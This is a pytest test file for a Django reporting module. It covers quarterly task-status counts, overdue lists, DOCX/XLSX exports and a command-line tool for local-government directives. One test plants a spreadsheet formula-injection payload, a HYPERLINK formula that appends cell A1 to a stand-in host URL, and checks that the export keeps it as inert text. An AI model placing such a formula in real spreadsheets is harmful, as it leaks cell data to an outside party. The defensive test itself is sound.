"""The periodic report: official classes on the period's last day, per-unit rates, overdue list
with days late, petitions; DOCX and XLSX read back; the command line writes the same."""

from __future__ import annotations

import datetime as dt
import io

import pytest
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone
from docx import Document
from openpyxl import load_workbook

from chidao.documents.report import Scope, period_of, report_content
from chidao.documents.report_docx import report_docx, report_xlsx
from chidao.tasks.models import Task, TaskState, local_day

from .conftest import make_session

pytestmark = pytest.mark.django_db
Q1 = period_of("quarter", 2026, 1)


def _at(day: dt.date) -> dt.datetime:
    return timezone.make_aware(dt.datetime.combine(day, dt.time(9)))


@pytest.fixture
def quarter(db, leader_person, unit_a, unit_b, department, office):
    """Eight tasks around the first quarter of 2026 (see each line)."""
    from chidao.meetings.models import Directive, ItemKind, Petition, PetitionState, SessionItem
    from chidao.tasks.services import create_tasks

    early = make_session(date=dt.date(2026, 1, 20), title="Làm việc với xã An Bình")
    early.chairs.add(leader_person)
    late = make_session(date=dt.date(2026, 4, 10), title="Làm việc tháng Tư")
    item = SessionItem.objects.create(
        session=early,
        kind=ItemKind.PETITION,
        text="Đề nghị tỉnh hỗ trợ kinh phí nạo vét kênh Bắc.",
        data={"by": "Chủ tịch UBND xã An Bình"},
    )
    Petition.objects.create(  # answered in the petitions register
        item=item,
        session=early,
        state=PetitionState.ANSWERED,
        answer="Sở Tài chính bố trí trong quý II.",
    )

    def task(unit, deadline, text, state=None, done=None, session=early):
        d = Directive.objects.create(session=session, text=text, issuer=leader_person)
        (t,) = create_tasks(directive=d, units=[unit], deadline=deadline, actor=office)
        if state:
            completed = _at(done) if done else None
            Task.objects.filter(pk=t.pk).update(
                state=state, completed_at=completed, completed_on=local_day(completed)
            )
        return t

    return {
        "on_time": task(
            unit_a, dt.date(2026, 2, 28), "Nạo vét kênh Bắc.", TaskState.DONE, dt.date(2026, 2, 20)
        ),
        "late": task(
            unit_a, dt.date(2026, 2, 28), "Lập quy hoạch chợ.", TaskState.DONE, dt.date(2026, 3, 10)
        ),
        "overdue": task(unit_b, dt.date(2026, 3, 20), "Giải tỏa hành lang đê."),
        "in_progress": task(unit_b, dt.date(2026, 6, 30), "Xây trường mầm non."),
        "no_deadline": task(department, None, "Rà soát nguồn vốn."),
        # done after the quarter: on 31/03 it was overdue by 16 days
        "done_after": task(
            unit_a, dt.date(2026, 3, 15), "Cắm mốc giới.", TaskState.DONE, dt.date(2026, 5, 1)
        ),
        # done before the quarter began: not counted
        "done_before": task(
            unit_a, dt.date(2025, 12, 31), "Tổng kết năm.", TaskState.DONE, dt.date(2025, 12, 20)
        ),
        # given after the quarter: not counted
        "later": task(unit_b, dt.date(2026, 5, 30), "Việc tháng Tư.", session=late),
    }


def _content(scope=None, **kw):
    return report_content(
        Task.objects.filter(unit__province_code="38"),
        province_code="38",
        period=Q1,
        scope=scope or Scope(),
        today=dt.date(2026, 12, 7),
        **kw,
    )


def test_classes_are_counted_as_on_the_last_day_of_the_period(quarter):
    t = _content().totals
    assert (t.done_on_time, t.done_late, t.in_time, t.overdue, t.no_deadline, t.total) == (
        1,
        1,
        1,
        2,
        1,
        6,
    )
    assert t.done_rate == 33.3 and t.on_time_rate == 16.7


def test_per_unit_rows_and_the_overdue_list_with_days_late(quarter):
    content = _content()
    by_name = {u.name: u.counts for u in content.units}
    assert by_name["Xã An Bình"].total == 3 and by_name["Xã An Bình"].overdue == 1
    assert by_name["Xã Bình Minh"].in_time == 1 and by_name["Xã Bình Minh"].overdue == 1
    assert [(o.text, o.days_late) for o in content.overdue] == [
        ("Cắm mốc giới.", 16),
        ("Giải tỏa hành lang đê.", 11),
    ]


def test_a_unit_scope_counts_only_that_units_tasks(quarter, unit_b):
    t = _content(Scope(unit=unit_b)).totals
    assert (t.total, t.overdue, t.in_time) == (2, 1, 1)


def test_docx_has_title_figures_tables_and_the_offices_texts(quarter):
    doc = Document(io.BytesIO(report_docx(_content(assessment="Các xã đã tập trung cao độ."))))
    paragraphs = [p.text for p in doc.paragraphs]
    assert "BÁO CÁO" in paragraphs
    assert "Tình hình thực hiện ý kiến chỉ đạo quý I năm 2026" in paragraphs
    assert "Các xã đã tập trung cao độ." in paragraphs
    figures = {r.cells[1].text: r.cells[2].text for r in doc.tables[1].rows[1:]}
    assert figures["Hoàn thành đúng hạn"] == "1" and figures["Quá hạn, chưa hoàn thành"] == "2"
    assert figures["Tổng số"] == "6"
    units = {r.cells[1].text: [c.text for c in r.cells[2:]] for r in doc.tables[2].rows[1:]}
    assert units["Xã An Bình"][:5] == ["3", "1", "1", "0", "1"]
    overdue = [[c.text for c in r.cells] for r in doc.tables[3].rows[1:]]
    assert overdue[0][1:] == ["Cắm mốc giới.", "Xã An Bình (chủ trì)", "15/03/2026", "16"]
    petitions = [[c.text for c in r.cells] for r in doc.tables[4].rows[1:]]
    assert petitions[0][3] == "Sở Tài chính bố trí trong quý II."


def test_xlsx_cells_are_typed_and_text_never_becomes_a_formula(quarter):
    quarter["overdue"].directive.__class__.objects.filter(
        pk=quarter["overdue"].directive_id
    ).update(text='=HYPERLINK("http://x.example/?"&A1,"bấm")')
    wb = load_workbook(io.BytesIO(report_xlsx(_content())))
    summary = wb["Tổng hợp"]
    assert (
        summary["B2"].value == dt.datetime(2026, 3, 31)
        and summary["B2"].number_format == "dd/mm/yyyy"
    )
    assert [summary.cell(row=r, column=2).value for r in range(4, 10)] == [1, 1, 1, 2, 1, 0]
    overdue = wb["Quá hạn"]
    assert overdue.freeze_panes == "A2"
    row = [c.value for c in overdue[3]]
    assert row[1].startswith("=HYPERLINK") and overdue.cell(row=3, column=2).data_type == "s"
    assert row[6] == dt.datetime(2026, 3, 20) and row[7] == 11


def test_command_line_writes_the_same_report(quarter, tmp_path, unit_b):
    out = tmp_path / "q1.xlsx"
    call_command(
        "report",
        "--from",
        "2026-01-01",
        "--to",
        "31/03/2026",
        "--unit",
        "90002",
        "--format",
        "xlsx",
        "-o",
        str(out),
    )
    wb = load_workbook(out)
    assert [wb["Theo đơn vị"].cell(row=2, column=c).value for c in (2, 3, 7)] == [
        "Xã Bình Minh",
        2,
        1,
    ]


def test_command_line_names_a_bad_date_and_an_unknown_unit(quarter, tmp_path):
    from django.core.management.base import CommandError

    with pytest.raises(CommandError, match=r"--from: '2026-13-01' is not a date"):
        call_command(
            "report", "--from", "2026-13-01", "--to", "2026-03-31", "-o", str(tmp_path / "x")
        )
    with pytest.raises(CommandError, match=r"--unit: no unit 'Xã Không Có'"):
        call_command(
            "report",
            "--from",
            "2026-01-01",
            "--to",
            "2026-03-31",
            "--unit",
            "Xã Không Có",
            "-o",
            str(tmp_path / "x"),
        )


def test_report_page_previews_the_figures_and_downloads_docx(client, office, quarter):
    client.force_login(office)
    url = reverse("documents:report")
    page = client.get(url, {"kind": "quarter", "year": 2026, "number": 1})
    assert page.status_code == 200
    assert "Tình hình thực hiện ý kiến chỉ đạo quý I năm 2026" in page.content.decode()
    response = client.post(
        url,
        {"kind": "quarter", "year": 2026, "number": 1, "download": "docx", "assessment": "Tốt."},
    )
    assert response["Content-Disposition"].endswith('bao-cao-chi-dao-20260101-20260331.docx"')
    assert "Tốt." in [p.text for p in Document(io.BytesIO(response.content)).paragraphs]


def test_report_page_refuses_a_fifth_quarter_with_the_reason(client, office):
    client.force_login(office)
    page = client.get(reverse("documents:report"), {"kind": "quarter", "year": 2026, "number": 5})
    assert page.status_code == 400
    assert "quarter must be 1–4, got 5" in page.content.decode()
